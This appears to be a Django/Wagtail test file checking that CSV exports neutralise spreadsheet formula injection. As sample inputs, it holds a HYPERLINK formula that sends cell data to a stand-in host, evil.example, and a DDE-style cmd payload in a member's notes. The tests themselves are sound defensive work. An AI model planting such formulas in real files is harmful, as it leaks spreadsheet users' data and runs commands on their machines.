"""Every CSV the project writes neutralises cells a spreadsheet would run as formulas."""

import csv
import io

import pytest

from django.contrib.auth import get_user_model
from django.urls import reverse

from wagtail.models import Page

from members.models import Member, NeedsResponse
from operations.csv_cells import neutralise

pytestmark = pytest.mark.django_db

BAGES = "Ajuntament d'exemple del Bages"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&C2&D2,"Open")'


def _rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _cells(response):
    return [cell for row in _rows(response) for cell in row]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_with_a_formula_character_gets_an_apostrophe(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


def test_other_text_and_numbers_are_left_alone():
    assert neutralise("Ajuntament de Vic") == "Ajuntament de Vic"
    assert neutralise(-5) == -5


def test_a_visitors_formula_reaches_the_needs_export_as_text(
    client, secretariat_client, questionnaire_pages, valid_answer
):
    page = questionnaire_pages["ca"]
    assert client.post(page.url, {**valid_answer, "organisation_name": FORMULA}).status_code == 302
    assert NeedsResponse.objects.filter(organisation_name=FORMULA).exists()
    cells = _cells(secretariat_client.get("/admin/members/needs/?export=csv"))
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


def test_the_personal_data_csv_neutralises_formulas(secretariat_client):
    member = Member.objects.get(name=BAGES)
    member.notes = "@SUM(1+1)*cmd|' /C calc'!A0"
    member.save()
    response = secretariat_client.get(reverse("members_member:export", args=[member.pk, "csv"]))
    assert ["member.notes", "'@SUM(1+1)*cmd|' /C calc'!A0"] in _rows(response)


def test_wagtails_own_reports_neutralise_formulas_too(client, django_user_model):
    page = Page.objects.get(locale__language_code="ca", slug="qui-som").specific
    page.title = "=1+1"
    page.save_revision(user=get_user_model().objects.get(username="secretaria"), log_action=True)
    client.force_login(django_user_model.objects.get(username="admin"))
    cells = _cells(client.get("/admin/reports/site-history/?export=csv"))
    assert "'=1+1" in cells
    assert "=1+1" not in cells
